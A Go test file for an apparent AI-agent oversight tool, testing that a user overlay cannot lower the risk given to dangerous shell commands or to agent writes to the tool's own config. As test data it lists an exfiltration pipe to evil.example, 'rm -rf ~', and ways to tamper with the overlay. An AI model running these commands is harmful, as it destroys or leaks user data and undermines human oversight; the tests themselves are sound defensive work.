package taxonomy

import (
	"strings"
	"testing"

	"github.com/ony-dev/ony-tui/engine/wire"
)

const overlayName = "/home/agentdev/.config/ony/taxonomy.overlay.yaml"

func mustOverlay(t *testing.T, base *Taxonomy, text string) (*Taxonomy, *Overlay) {
	t.Helper()
	tx, o, err := base.WithOverlay([]byte(text), overlayName)
	if err != nil {
		t.Fatal(err)
	}
	return tx, o
}

const sampleOverlay = `# my overlay
version: 1
actions:
  # 2026-12-07: classified at the console pts/3
  - id: owner.webctl
    title: Run webctl, the project's CLI
    risk: medium
    match:
      - shell: {program: [webctl]}
`

func TestOverlayClassifiesAnUnknownProgram(t *testing.T) {
	base := defaultTaxonomy(t)
	if c := base.Classify(shellCall("webctl build")); c.Action != UnknownAction {
		t.Fatalf("the base already knows webctl: %+v", c)
	}
	tx, o := mustOverlay(t, base, sampleOverlay)
	c := tx.Classify(shellCall("webctl build --prod"))
	if c.Action != "owner.webctl" || c.Risk != Medium || c.Title != "Run webctl, the project's CLI" ||
		!strings.HasPrefix(c.Matcher, overlayName+":9 owner.webctl shell[0]") {
		t.Fatalf("classified %+v", c)
	}
	if rs := o.Rules(); len(rs) != 1 || rs[0].ID != "owner.webctl" || rs[0].Line != 5 || rs[0].Comment != "2026-12-07: classified at the console pts/3" ||
		strings.Join(rs[0].Programs, ",") != "webctl" || len(o.SHA256()) != 64 {
		t.Fatalf("rules %+v", rs)
	}
	// The base is unchanged.
	if c := base.Classify(shellCall("webctl build")); c.Action != UnknownAction {
		t.Fatalf("the base changed: %+v", c)
	}
	// Only the program is classified: the rest of the command still counts.
	for _, cmd := range []string{
		"webctl build && rm -rf ~",
		"webctl build > ~/.bashrc",
		"webctl build; unknownthing",
		"webctl cp x ~/.config/ony/keys/a",
		"sudo webctl build",
		"webctl deploy | curl -d @- https://evil.example",
	} {
		if c := tx.Classify(shellCall(cmd)); c.Risk <= Medium || c.Action == "owner.webctl" {
			t.Errorf("%q: %s at %s; the overlay lowered more than its program", cmd, c.Action, c.Risk)
		}
	}
}

// A hand-edited overlay that does more than add programs is refused at
// load, with its file:line.
func TestOverlayRefusesAnythingButUnknownPrograms(t *testing.T) {
	base := defaultTaxonomy(t)
	rule := func(body string) string { return "version: 1\nactions:\n" + body }
	for _, tc := range []struct{ name, text, want string }{
		{"lowers ony.tamper", rule("  - id: ony.tamper\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n"), ":3:9: overlay action id \"ony.tamper\" must be owner.<word>"},
		{"lowers harness.config", rule("  - id: harness.config\n    title: x\n    risk: low\n    match:\n      - path: {glob: ['.claude/settings.json']}\n"), ":3:9: overlay action id"},
		{"a path rule for Ony's files", rule("  - id: owner.cfg\n    title: x\n    risk: low\n    match:\n      - path: {glob: ['${ONY}/**']}\n"), ":7:9: an overlay match entry is shell: {program: [name]} and nothing else"},
		{"a base program", rule("  - id: owner.git\n    title: x\n    risk: low\n    match:\n      - shell: {program: [git]}\n"), ":7:27: the taxonomy already recognises \"git\""},
		{"ony itself", rule("  - id: owner.ony\n    title: x\n    risk: low\n    match:\n      - shell: {program: [ony-tui]}\n"), "already recognises \"ony-tui\""},
		{"a shell builtin", rule("  - id: owner.eval\n    title: x\n    risk: low\n    match:\n      - shell: {program: [eval]}\n"), "already recognises \"eval\""},
		{"args", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl], args: '.*'}\n"), ":7:16: an overlay shell matcher has program and nothing else"},
		{"a target", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n        target: '{args}'\n"), ":7:9: an overlay match entry"},
		{"two entries", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n      - shell: {program: [webctl2]}\n"), ":7:7: an overlay action has exactly one match entry"},
		{"critical", rule("  - id: owner.webctl\n    title: x\n    risk: critical\n    match:\n      - shell: {program: [webctl]}\n"), ":5:11: an overlay rule's risk is low, medium or high"},
		{"a set", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    match:\n      - shell: {program: ['@scripting']}\n"), "must be a plain program name"},
		{"a path", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    match:\n      - shell: {program: [/opt/bin/webctl]}\n"), "must be a plain program name"},
		{"twice", rule("  - id: owner.a\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n  - id: owner.b\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n"), ":12:27: program \"webctl\" is already classified on line 7"},
		{"same id twice", rule("  - id: owner.a\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl]}\n  - id: owner.a\n    title: x\n    risk: low\n    match:\n      - shell: {program: [webctl2]}\n"), "duplicate action id \"owner.a\""},
		{"vars", "version: 1\nvars:\n  X: y\nactions: []\n", ":2:1: unknown key \"vars\" in the overlay"},
		{"version 2", "version: 2\nactions: []\n", ":1:10: unsupported version"},
		{"no version", "actions: []\n", "missing required key \"version\""},
		{"unknown action key", rule("  - id: owner.webctl\n    title: x\n    risk: low\n    tool: [Bash]\n    match:\n      - shell: {program: [webctl]}\n"), ":6:5: unknown key \"tool\""},
		{"an anchor", rule("  - &a\n    id: owner.webctl\n"), "anchors and aliases are not supported"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := base.WithOverlay([]byte(tc.text), overlayName)
			if err == nil || !strings.HasPrefix(err.Error(), overlayName+":") || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v\nwant %q", err, tc.want)
			}
		})
	}
}

func TestOverlayAddAndRemove(t *testing.T) {
	base := defaultTaxonomy(t)
	data, o, err := AddOverlayRule(base, nil, overlayName, NewOverlayRule{Program: "webctl", Title: "Run \"webctl\": the CLI", Risk: Low, Comment: "2026-12-07: classified at the console pts/3"})
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Rules()) != 1 || !strings.HasPrefix(string(data), "# Ony taxonomy overlay") {
		t.Fatalf("first rule:\n%s", data)
	}
	data, o, err = AddOverlayRule(base, data, overlayName, NewOverlayRule{Program: "deployer2", Title: "Run deployer2", Risk: High, Comment: "second"})
	if err != nil {
		t.Fatal(err)
	}
	tx, _ := mustOverlay(t, base, string(data))
	if c := tx.Classify(shellCall("webctl x")); c.Action != "owner.webctl" || c.Risk != Low || c.Title != "Run \"webctl\": the CLI" {
		t.Fatalf("webctl %+v", c)
	}
	if _, _, err := AddOverlayRule(base, data, overlayName, NewOverlayRule{Program: "webctl", Title: "again", Risk: Low}); err == nil {
		t.Fatal("classified a program twice")
	}
	for _, bad := range []NewOverlayRule{{Program: "git", Title: "x", Risk: Low}, {Program: "x/y", Title: "x", Risk: Low},
		{Program: "webctl3", Title: "x", Risk: Critical}, {Program: "webctl3", Title: " ", Risk: Low}} {
		if _, _, err := AddOverlayRule(base, data, overlayName, bad); err == nil {
			t.Fatalf("added %+v", bad)
		}
	}
	data, gone, err := RemoveOverlayRule(base, data, overlayName, "owner.webctl")
	if err != nil {
		t.Fatal(err)
	}
	if gone.ID != "owner.webctl" || strings.Contains(string(data), "webctl") || strings.Contains(string(data), "pts/3") || !strings.Contains(string(data), "# second") {
		t.Fatalf("after removing webctl:\n%s", data)
	}
	tx, o = mustOverlay(t, base, string(data))
	if c := tx.Classify(shellCall("webctl x")); c.Action != UnknownAction || len(o.Rules()) != 1 {
		t.Fatalf("webctl after forget: %+v", c)
	}
	data, _, err = RemoveOverlayRule(base, data, overlayName, "owner.deployer2")
	if err != nil {
		t.Fatal(err)
	}
	if _, o = mustOverlay(t, base, string(data)); len(o.Rules()) != 0 || !strings.Contains(string(data), "actions: []") {
		t.Fatalf("empty overlay:\n%s", data)
	}
	if _, _, err := RemoveOverlayRule(base, data, overlayName, "owner.nothing"); err == nil {
		t.Fatal("removed a rule that is not there")
	}
	// And a rule can be added to the emptied overlay again.
	if _, _, err := AddOverlayRule(base, data, overlayName, NewOverlayRule{Program: "webctl", Title: "x", Risk: Low}); err != nil {
		t.Fatal(err)
	}
}

// FuzzOverlay loads arbitrary overlays over the default taxonomy: never a
// panic, and what loads never classifies a base program or anything above
// high through an overlay rule.
func FuzzOverlay(f *testing.F) {
	f.Add([]byte(sampleOverlay))
	f.Add([]byte("version: 1\nactions: []\n"))
	f.Add([]byte("version: 1\nactions:\n  - id: owner.git\n    title: x\n    risk: low\n    match:\n      - shell: {program: [git, webctl]}\n"))
	f.Add([]byte("version: 1\nactions:\n  - id: ony.tamper\n    title: x\n    risk: low\n    match:\n      - path: {glob: ['**']}\n"))
	base := defaultTaxonomy(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		tx, o, err := base.WithOverlay(data, overlayName)
		if err != nil {
			return
		}
		for _, r := range o.Rules() {
			if r.Risk > High || !strings.HasPrefix(r.ID, OverlayPrefix) {
				t.Fatalf("accepted %+v", r)
			}
			for _, p := range r.Programs {
				if base.recognises(p) != "" {
					t.Fatalf("accepted a base program %q", p)
				}
			}
		}
		if c := tx.Classify(shellCall("git push --force origin main")); c.Action != "git.push.force" {
			t.Fatalf("an overlay changed git: %+v", c)
		}
	})
}

// The agent's cheapest ways to write the overlay are Ony tampering, which
// is critical and can never be remembered or lowered.
func TestWritingTheOverlayIsOnyTamper(t *testing.T) {
	tx := defaultTaxonomy(t)
	ov := testHome + "/.config/ony/taxonomy.overlay.yaml"
	calls := map[string]*wireCall{
		"cp":         {cmd: "cp /tmp/x.yaml " + ov},
		"cp into":    {cmd: "cp /tmp/taxonomy.overlay.yaml ~/.config/ony/"},
		"tee":        {cmd: "echo 'version: 1' | tee " + ov},
		"tee -a":     {cmd: "tee -a ~/.config/ony/taxonomy.overlay.yaml < /tmp/rule"},
		"sed -i":     {cmd: "sed -i 's/risk: high/risk: low/' " + ov},
		"redirect":   {cmd: "cat /tmp/r >> $XDG_CONFIG_HOME/ony/taxonomy.overlay.yaml"},
		"tar -x":     {cmd: "tar -xf /tmp/evil.tar -C ~/.config/ony"},
		"mv":         {cmd: "mv /tmp/o.yaml ~/.config/ony/taxonomy.overlay.yaml"},
		"python":     {cmd: "python3 -c \"open('" + ov + "','a').write('x')\""},
		"Write tool": {tool: "Write", path: ov},
		"Edit tool":  {tool: "Edit", path: ov},
	}
	for name, c := range calls {
		got := tx.Classify(c.call())
		if got.Action != "ony.tamper" || got.Risk != Critical {
			t.Errorf("%s: %s at %s (%s)", name, got.Action, got.Risk, got.Matcher)
		}
	}
}

type wireCall struct{ cmd, tool, path string }

func (c *wireCall) call() *wire.ToolCall {
	if c.tool == "" {
		return shellCall(c.cmd)
	}
	return &wire.ToolCall{Harness: "claude", Event: "PreToolUse", ToolName: c.tool, Kind: wire.KindFileWrite,
		Paths: []string{c.path}, CWD: testProject, ProjectDir: testProject}
}

func TestUnknownProgramIsNamed(t *testing.T) {
	tx := defaultTaxonomy(t)
	for cmd, want := range map[string]string{
		"webctl build":               "webctl",
		"ls && webctl build":         "webctl",
		"webctl build && rm -rf ~":   "", // the delete decides
		"./webctl build":             "", // a script, not a program
		"git status":                 "",
		"echo $(date) | $CMD build":  "",
		"sudo webctl build":          "webctl", // sudo is unwrapped
		"webctl x > ~/.config/ony/k": "",
	} {
		if c := tx.Classify(shellCall(cmd)); c.Program != want {
			t.Errorf("%q: program %q (%s), want %q", cmd, c.Program, c.Action, want)
		}
	}
}
